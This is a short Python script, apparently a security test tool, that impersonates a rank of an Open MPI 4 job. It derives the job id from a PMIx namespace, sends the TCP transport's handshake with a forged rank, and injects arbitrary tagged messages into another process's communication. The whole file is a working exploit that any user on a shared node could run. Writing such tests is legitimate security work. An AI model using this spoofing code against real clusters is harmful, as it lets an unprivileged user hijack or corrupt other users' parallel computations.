"""Speak to a rank of Open MPI 4 as another rank of its step: ``mpi_impostor.py HOST NSPACE RANK``.

An attack for tests, which any user of a node can try: Open MPI's TCP transport asks a peer for a
fixed text, its address, and an id that follows from Slurm's numbers of job and step. What to send
is read from stdin: a line for each message, of its tag and its bytes in hexadecimal.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

#: Where Open MPI's TCP transport listens, from its first port on.
PORTS = range(1024, 1032)
MAGIC = b"OPAL-TCP-BTL".ljust(16, b"\0")
#: The type of a message that is sent in full, for the transport and for the matching of messages.
_MATCH = 0x41


def job_id(nspace: str) -> int:
    """Return the id by which Open MPI knows a step that PMIx calls ``nspace``."""
    found = 0
    for byte in nspace.encode():
        found = (found + byte) & 0xFFFFFFFF
        found = (found + (found << 10)) & 0xFFFFFFFF
        found ^= found >> 6
    found = (found + (found << 3)) & 0xFFFFFFFF
    found ^= found >> 11
    found = (found + (found << 15)) & 0xFFFFFFFF
    return found & ~0x8000


def conversation(nspace: str, rank: int, messages: list[tuple[int, bytes]]) -> bytes:
    """Return what rank ``rank`` says to another one before and with its first ``messages``."""
    said = struct.pack("<II", job_id(nspace), rank) + MAGIC
    for number, (tag, body) in enumerate(messages, 1):
        match = struct.pack("<BBHiiH", _MATCH, 0, 0, rank, tag, number)
        said += struct.pack("<BBHI", _MATCH, 1, 0, len(match) + len(body)) + match + body
    return said


def main() -> None:
    """Try until a rank has taken the conversation, for a minute."""
    host, nspace, rank = sys.argv[1:]
    lines = [line.split() for line in sys.stdin]
    said = conversation(nspace, int(rank), [(int(tag), bytes.fromhex(text)) for tag, text in lines])
    deadline = time.monotonic() + 60
    print("ready", flush=True)
    while time.monotonic() < deadline:
        for port in PORTS:
            try:
                with socket.create_connection((host, port), 0.5) as connection:
                    connection.sendall(said)
                    connection.settimeout(5)
                    if len(connection.recv(24, socket.MSG_WAITALL)) == 24:
                        print(f"accepted at port {port}", flush=True)
                        time.sleep(5)
                        return
            except OSError:
                continue
        time.sleep(0.0005)


if __name__ == "__main__":
    main()
